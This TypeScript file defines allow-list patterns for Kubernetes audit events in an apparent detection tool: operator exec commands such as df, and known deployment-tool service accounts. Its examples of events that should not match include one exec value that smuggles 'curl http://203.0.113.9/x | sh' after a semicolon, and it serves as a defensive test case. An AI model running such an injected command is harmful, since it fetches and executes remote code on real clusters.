import type { BenignPattern } from "../benign.ts";
import { auditPattern, isRemoteControl } from "./audit-pattern.ts";
import { auditing } from "./examples.ts";

/** Requests of operators and deployment tools to the Kubernetes API. */

export const operatorPatterns: readonly BenignPattern[] = [
  auditPattern({
    id: "operator-runs-command",
    activity: "An operator runs a small command in its pods, such as df or a health check",
    distinguishing: [
      "The service account is the operator's own, in its own name space, and the command is the same one every few minutes.",
      "The account's token can be stolen, so the name alone does not settle it: compare `ka.sourceips` and `ka.useragent` with earlier requests.",
      "A shell, or any command that reads or writes files, is not it.",
    ],
    explains: ["execs-into-pod"],
    judge(facts) {
      const { user, subresource, commandLine, resource } = facts.kubernetes;
      const command = facts.kubernetes.command;
      const isExec = subresource === "exec" || (subresource === null && command !== null);
      if (
        user === null ||
        command === null ||
        !user.startsWith("system:serviceaccount:") ||
        !isExec ||
        (resource !== null && resource !== "pods")
      )
        return null;
      const [first] = commandLine.commands;
      const small = ["df", "pg_isready", "mysqladmin", "redis-cli", "true", "date", "uptime", "hostname", "nproc"];
      if (
        commandLine.commands.length !== 1 ||
        first === undefined ||
        first.redirections.length > 0 ||
        !small.includes(first.program)
      )
        return null;
      return first.words.slice(1).every((word) => /^-{0,2}[A-Za-z][\w.-]{0,30}$/.test(word.value))
        ? {
            strength: "named",
            quote: user,
            because: "the command only asks, and an operator's account asks it; a stolen token could do the same",
          }
        : null;
    },
    examples: {
      proven: [],
      named: [
        auditing("system:serviceaccount:ops-system:storage-operator", "create", "pods", {
          "ka.target.subresource": "exec",
          "ka.uri.param[command]": "df",
          "ka.target.name": "prometheus-0",
          "ka.target.namespace": "monitoring",
        }),
      ],
      ignored: [
        auditing("system:serviceaccount:ops-system:storage-operator", "create", "pods", {
          "ka.target.subresource": "exec",
          "ka.uri.param[command]": "sh",
        }),
        auditing("kubernetes-admin", "create", "pods", {
          "ka.target.subresource": "exec",
          "ka.uri.param[command]": "df",
        }),
        auditing("system:serviceaccount:ops-system:storage-operator", "create", "pods", {
          "ka.target.subresource": "exec",
          "ka.uri.param[command]": "df; curl http://203.0.113.9/x | sh",
        }),
      ],
    },
  }),

  auditPattern({
    id: "deployment-controller-account",
    activity:
      "A deployment tool or operator (Argo CD, Flux, Helm, cert-manager, Prometheus operator) changes objects as its work",
    distinguishing: [
      "The change stands in the repository or the chart, and the tool's own log has the synchronisation.",
      "The same account from another address or with another client (`ka.useragent`) is a stolen token.",
      "Such accounts may do almost anything: an unplanned change by one is serious.",
    ],
    explains: ["creates-workload", "reads-kubernetes-secrets", "gets-kubernetes-secret"],
    judge(facts) {
      const { user, subresource } = facts.kubernetes;
      const known =
        /^system:serviceaccount:(?:argocd:argocd-[a-z-]{1,60}|flux-system:(?:kustomize|helm|source|notification)-controller|cert-manager:cert-manager(?:-cainjector|-webhook)?|monitoring:[a-z-]{0,40}prometheus-operator|velero:velero|external-secrets:external-secrets|gatekeeper-system:gatekeeper-admin|kyverno:kyverno-[a-z-]{1,60})$/;
      if (user === null || user.length > 200 || !known.test(user) || isRemoteControl(subresource)) return null;
      return {
        strength: "named",
        quote: user,
        because: "the account has the name of a deployment tool; whoever makes the account chooses the name",
      };
    },
    examples: {
      proven: [],
      named: [
        auditing("system:serviceaccount:argocd:argocd-application-controller", "create", "rolebindings", {
          "ka.target.namespace": "shop",
        }),
      ],
      ignored: [
        auditing("system:serviceaccount:argocd:argocd-application-controller", "create", "pods", {
          "ka.target.subresource": "exec",
        }),
        auditing("system:serviceaccount:default:argocd-application-controller", "create", "rolebindings"),
      ],
    },
  }),
];
